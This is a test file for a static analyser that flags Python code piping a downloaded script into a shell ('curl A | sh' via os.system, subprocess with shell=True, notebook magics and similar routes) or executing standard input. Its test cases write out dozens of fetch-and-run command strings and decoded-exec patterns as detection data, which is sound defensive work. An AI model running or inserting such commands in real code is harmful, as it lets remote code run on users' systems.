import { expect, test } from "vitest";
import { analyzePython } from "../../../src/core/code/python/analyze.js";
import { injected, markedPipes, unmark, withTools } from "./harness.js";
import { Source } from "../../../src/core/source.js";

/** Code that passes a shell a string that pipes a fetcher into a shell; the marks show the span. */
const PIPES = [
  "os.system('«curl A | sh»')",
  'os.system("«curl A | sh»")',
  "os.system('''\nset -e\n«curl A | sh»\n''')",
  "os.system(r'«curl A | sh»')",
  "os.system(f'«curl {url} | sh»')",
  "os.system(f'«curl {url!r} {{x}} | sh»')",
  "os.system('«curl ' + url + ' | sh»')",
  "os.system('«curl A '\n          '| sh»')",
  "os.system('«curl %s | sh»' % url)",
  "os.system('«curl %(u)s | sh»' % {'u': url})",
  "os.system('«curl {} | sh»'.format(url))",
  "os.system('«curl {u} | sh»'.format(u=url))",
  "os.system(' '.join(['«curl', url, '|', 'sh»']))",
  "os.system('«curl \\'A\\' | sh»')",
  "os.system('cd /tmp\\n«curl A | sh»')",
  "os.popen('«curl A | sh»').read()",
  "import os as o\no.system('«curl A | sh»')",
  "from os import system\nsystem('«curl A | sh»')",
  "from os import system as s\ns('«curl A | sh»')",
  "from os import *\nsystem('«curl A | sh»')",
  "__import__('os').system('«curl A | sh»')",
  "getattr(os, 'system')('«curl A | sh»')",
  "run = os.system\nrun('«curl A | sh»')",
  "subprocess.run('«curl A | sh»', shell=True)",
  "subprocess.run('«curl A | sh»', check=True, shell=True)",
  "subprocess.run(args='«curl A | sh»', shell=True)",
  "subprocess.run('«curl A | sh»', shell=1)",
  "subprocess.run(['«curl A | sh»'], shell=True)",
  "subprocess.call('«curl A | sh»', shell=True)",
  "subprocess.check_output('«curl A | sh»', shell=True, executable='/bin/bash')",
  "p = subprocess.Popen('«curl A | sh»', shell=True, stdout=PIPE)",
  "subprocess.getoutput('«curl A | sh»')",
  "subprocess.getstatusoutput('«curl A | sh»')",
  "from subprocess import run\nrun('«curl A | sh»', shell=True)",
  "import subprocess as sp\nsp.call('«curl A | sh»', shell=True)",
  "await asyncio.create_subprocess_shell('«curl A | sh»')",
  "commands.getoutput('«curl A | sh»')",
  "client.exec_command('«curl A | sh»')",
  "c.run('«curl A | sh»')",
  "Connection('h').run('«curl A | sh»')",
  "c = Connection('h')\nc.run('«curl A | sh»')",
  "cmd = '«curl A | sh»'\nos.system(cmd)",
  "URL = 'https://a.example'\ncmd = f'«curl {URL} | sh»'\nos.system(cmd)",
  "cmd = '«curl A'\ncmd += ' | sh»'\nos.system(cmd)",
  "shell = 'sh'\nos.system(f'«curl A | {shell}»')",
  "def sh(cmd):\n    subprocess.run(cmd, shell=True)\nsh('«curl A | sh»')",
  "def sh(cmd):\n    return os.system(cmd)\nfor c in ['ls', '«curl A | sh»']:\n    sh(c)",
  "CMDS = ['ls', '«curl A | sh»']\nfor c in CMDS:\n    os.system(c)",
  "cmds = {'a': 'ls', 'b': '«curl A | sh»'}\nos.system(cmds[sys.platform])",
  "cmds = {'a': 'ls', 'b': '«curl A | sh»'}\nos.system(cmds.get(k))",
  "cmds = {'a': 'ls', 'b': '«curl A | sh»'}\nos.system(cmds['b'])",
  "flag = True\nsubprocess.run('«curl A | sh»', shell=flag)",
  "subprocess.run(textwrap.dedent('''\n    «curl A | sh»\n'''), shell=True)",
  "subprocess.run('«curl A | sh»'.strip(), shell=True)",
  "Thread(target=os.system, args=('«curl A | sh»',)).start()",
  "class A:\n    CMD = '«curl A | sh»'\n    def run(self):\n        os.system(self.CMD)",
  "print(os.system('«curl A | sh»'))",
  "if os.system('«curl A | sh»') != 0: pass",
  "def run(cmd, **kw):\n    subprocess.run(cmd, **kw)\nrun('«curl A | sh»', shell=True)",
  "options = {'shell': True}\nsubprocess.run('«curl A | sh»', **options)",
  "BashOperator(task_id='x', bash_command='«curl A | sh»')",
  "subprocess.run(['bash'], input='«curl A | sh»', text=True)",
  "p = subprocess.Popen(['bash'], stdin=subprocess.PIPE)\np.communicate(b'«curl A | sh»')",
  // shell lines of a notebook
  "import os\n!«curl A | sh»\nx = 1",
  "out = !«curl A | sh»",
  "%%bash\ncd /tmp\n«curl A | sh»",
  "%sx «curl A | sh»",
];

/** Code that does not pass such a string to a shell. */
const QUIET = [
  "print('curl A | sh')",
  "'curl A | sh'",
  "'''curl A | sh'''",
  "cmd = 'curl A | sh'",
  "# os.system('curl A | sh')",
  "subprocess.run('curl A | sh')",
  "subprocess.run('curl A | sh', shell=False)",
  "logging.info('curl A | sh')",
  "exec('curl A | sh')",
  "re.run('curl A | sh')",
  "app.run('curl A | sh')",
  "foo.system('curl A | sh')",
  "cmd = 'curl A | sh'\ncmd = 'ls'\nos.system(cmd)",
  "cmds = {'a': 'ls', 'b': 'curl A | sh'}\nos.system(cmds['a'])",
  "os.system('ls')\ncmd = 'curl A | sh'",
  "def os_system(x): pass\nos_system('curl A | sh')",
  "s = '''\n!curl A | sh\n'''",
  "x = 10 \\\n  % 3\nos.system('ls')",
];

test.each(PIPES)("exactly the marked commands are passed to a shell: %s", (text) => {
  expect(markedPipes(unmark(text), analyzePython)).toBe(text);
});

test.each(QUIET)("no pipe from a fetcher is passed to a shell: %s", (text) => {
  expect(markedPipes(text, analyzePython)).toBe(text);
});

/** Calls with the exact strings that they pass to a shell. */
const EXACT: [string, string[]][] = [
  ["subprocess.run(['bash', '-c', 'curl A | sh'])", ["shell: bash -c 'curl A | sh'"]],
  ["subprocess.run(('bash', '-c', 'curl A | sh'))", ["shell: bash -c 'curl A | sh'"]],
  ["subprocess.run(['curl', 'A', '|', 'sh'])", ["shell: curl A '|' sh"]],
  ["subprocess.run(['sh', 'i.sh'], check=True)", ["shell: sh i.sh"]],
  ["subprocess.run(['bash', '-c', \"echo 'a'\"])", ["shell: bash -c 'echo '\\''a'\\'''"]],
  ["subprocess.run(['bash', '-c', script])", ["shell: bash -c value"]],
  ["subprocess.run(['bash', '-c', f'curl {u} | sh'])", ["shell: bash -c 'curl value | sh'"]],
  ["subprocess.run(['sudo'] + ['bash', '-c', 'a b'])", ["shell: sudo bash -c 'a b'"]],
  [
    "args = ['bash']\nargs.append('-c')\nargs += ['a b']\nsubprocess.run(args)",
    ["shell: bash -c 'a b'"],
  ],
  ["args = ['bash', '-c']\nsubprocess.run([*args, 'a b'])", ["shell: bash -c 'a b'"]],
  ["subprocess.run(shlex.split(\"bash -c 'curl A | sh'\"))", ["shell: bash -c 'curl A | sh'"]],
  ["subprocess.run('bash -c x'.split())", ["shell: bash -c x"]],
  ["os.execvp('bash', ['bash', '-c', 'a | b'])", ["shell: bash -c 'a | b'"]],
  ["os.execlp('bash', 'bash', '-c', 'a | b')", ["shell: bash -c 'a | b'"]],
  ["asyncio.create_subprocess_exec('bash', '-c', 'a | b')", ["shell: bash -c 'a | b'"]],
  ["pexpect.spawn(\"bash -c 'a | b'\")", ["shell: bash -c 'a | b'"]],
  ["pexpect.spawn('curl A | sh')", ["shell: curl A '|' sh"]],
  ["container.exec_run(['sh', '-c', 'a | b'])", ["shell: sh -c 'a | b'"]],
  ["os.spawnlp(os.P_WAIT, 'bash', 'bash', '-c', 'a | b')", ["shell: bash -c 'a | b'"]],
  [
    "subprocess.run([sys.executable, '-c', 'exec(x)'])",
    ["shell: value -c 'exec(x)'", "python: exec(x)"],
  ],
  ["exec('exec(x)')", ["python: exec(x)"]],
  ["code = 'exec(x)'\nexec(code)", ["python: exec(x)"]],
  ["eval(compile('exec(x)', 'f', 'exec'))", ["python: exec(x)"]],
  ["exec('print(1)')", []],
  ["os.system(cmd)", []],
];

test.each(EXACT)("the exact strings are passed to a shell: %s", (text, expected) => {
  expect(injected(text, analyzePython)).toEqual(expected);
});

test("the quotes of a list item replace those of a command line", () => {
  const text = "subprocess.run(['bash', '-c', '$(curl A)'])";
  const { injections } = withTools((tools) => analyzePython(Source.whole(text), tools));
  const source = injections[0]?.source;
  expect(source?.text).toBe("bash -c '$(curl A)'");
  expect(text.slice(...(source?.origin(0, source.text.length) ?? [0, 0]))).toBe(
    "bash', '-c', '$(curl A)'",
  );
});

test("a call inside an executed string keeps its place through escapes", () => {
  const text = 'exec("x = \\"a\\"\\nexec(base64.b64decode(x))")';
  const spans = withTools((tools) => {
    const outer = analyzePython(Source.whole(text), tools);
    return analyzePython(outer.injections[0]?.source ?? Source.whole(""), tools);
  }).matches.map((match) => text.slice(...match.span));
  expect(spans).toEqual(["exec(base64"]);
});

test("an unknown value of the argument shell gives a note", () => {
  const { notes, injections } = withTools((tools) =>
    analyzePython(Source.whole("subprocess.run('curl A | sh', shell=flag)"), tools),
  );
  expect(injections).toEqual([]);
  expect(notes.map((note) => note.reason)).toEqual(["unknown-shell-option"]);
});

const STDIN = [
  "exec(sys.stdin.read())",
  "exec(input())",
  "eval(open(0).read())",
  "exec(open('/dev/stdin').read())",
  "import sys; exec(compile(sys.stdin.buffer.read(), 'x', 'exec'))",
  "for line in sys.stdin: exec(line)",
  "import os, sys; os.system(sys.stdin.read())",
];

test.each(STDIN)("%s executes standard input", (text) => {
  expect(
    withTools((tools) => analyzePython(Source.whole(text), tools), { stdinIsRemote: true })
      .executesStdin,
  ).toBe(true);
  expect(
    withTools((tools) => analyzePython(Source.whole(text), tools)).executesStdin,
  ).toBeUndefined();
});

test.each([
  "print(sys.stdin.read())",
  "exec(open('f').read())",
  "json.load(sys.stdin)",
  "exec(code); x = sys.stdin.read()",
])("%s does not execute standard input", (text) => {
  expect(
    withTools((tools) => analyzePython(Source.whole(text), tools), { stdinIsRemote: true })
      .executesStdin,
  ).toBeUndefined();
});

test("executing decoded standard input is a match, and does not count as executing standard input itself", () => {
  const analysis = withTools(
    (tools) => analyzePython(Source.whole("exec(base64.b64decode(sys.stdin.read()))"), tools),
    { stdinIsRemote: true },
  );
  expect(analysis.matches).toHaveLength(1);
  expect(analysis.executesStdin).toBeUndefined();
});
